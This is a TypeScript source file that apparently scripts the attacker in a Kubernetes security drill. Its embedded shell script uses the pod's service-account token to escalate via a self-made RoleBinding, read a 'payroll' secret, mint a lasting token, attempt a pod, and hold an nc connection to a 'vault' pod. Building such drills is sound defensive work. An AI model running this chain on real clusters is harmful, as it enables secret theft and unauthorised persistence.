/** What a drill has that its intruder is after, and what it gives itself to get it. */
export const names = {
  intruder: 'intruder',
  vault: 'vault',
  treasure: 'payroll',
  keeper: 'keeper',
  escalation: 'escalation',
  key: 'spare-key',
} as const
const { intruder, vault, treasure, keeper, escalation, key } = names

const body = (value: object): string => `'${JSON.stringify(value).replaceAll('"$space"', `"'"$space"'"`)}'`
const account = { kind: 'ServiceAccount', name: intruder, namespace: '$space' }
const group = 'rbac.authorization.k8s.io'
const binding = {
  apiVersion: `${group}/v1`,
  kind: 'RoleBinding',
  metadata: { name: escalation },
  roleRef: { apiGroup: group, kind: 'Role', name: keeper },
  subjects: [account],
}
const token = {
  apiVersion: 'v1',
  kind: 'Secret',
  metadata: { name: key, annotations: { 'kubernetes.io/service-account.name': intruder } },
  type: 'kubernetes.io/service-account-token',
}
// Never made: nobody in a drill may make pods, as whoever may has the node.
const foothold = {
  apiVersion: 'v1',
  kind: 'Pod',
  metadata: { name: 'foothold' },
  spec: { containers: [{ name: 'foothold', image: 'foothold' }] },
}
const rules = {
  apiVersion: 'authorization.k8s.io/v1',
  kind: 'SelfSubjectRulesReview',
  spec: { namespace: '$space' },
}

/**
 * What the intruder does, once: asks what it may, is refused a secret, gives itself the role that may read it, reads it, makes a token that outlives its pod, and is refused a
 * pod. Then it holds a connection open, and speaks over it every second. Nothing of a cluster becomes part of it: what it needs it reads where every pod finds it. `wget` and
 * `nc` are as busybox and agnhost have them.
 */
export const script = `
at=/var/run/secrets/kubernetes.io/serviceaccount
host=$KUBERNETES_SERVICE_HOST
case "$host" in *:*) host="[$host]" ;; esac
space=$(cat $at/namespace)
core="/api/v1/namespaces/$space"
call() {
  path=$1; shift
  wget -q -O - --no-check-certificate --header "Authorization: Bearer $(cat $at/token)" "$@" "https://$host:$KUBERNETES_SERVICE_PORT$path"
}
send() { call "$1" --header 'Content-Type: application/json' --post-data "$2"; }
try() { echo "$1"; shift; "$@" > /dev/null 2>&1 && echo '  done' || echo '  refused'; }
try 'asking what I may' send /apis/authorization.k8s.io/v1/selfsubjectrulesreviews ${body(rules)}
try 'reading ${treasure}' call "$core/secrets/${treasure}"
try 'giving myself the role ${keeper}' send "/apis/${group}/v1/namespaces/$space/rolebindings" ${body(binding)}
try 'reading ${treasure} again' call "$core/secrets/${treasure}"
try 'making a key for later' send "$core/secrets" ${body(token)}
try 'making a pod' send "$core/pods" ${body(foothold)}
while :; do
  to=$(call "$core/pods/${vault}" 2> /dev/null | grep -o '"podIP": *"[^"]*"' | cut -d '"' -f 4)
  [ -n "$to" ] && echo 'holding a connection open' &&
    while sleep 1; do printf 'GET / HTTP/1.1\\r\\nHost: ${vault}\\r\\n\\r\\n'; done | nc "$to" 8080 > /dev/null 2>&1
  sleep 1
done
`
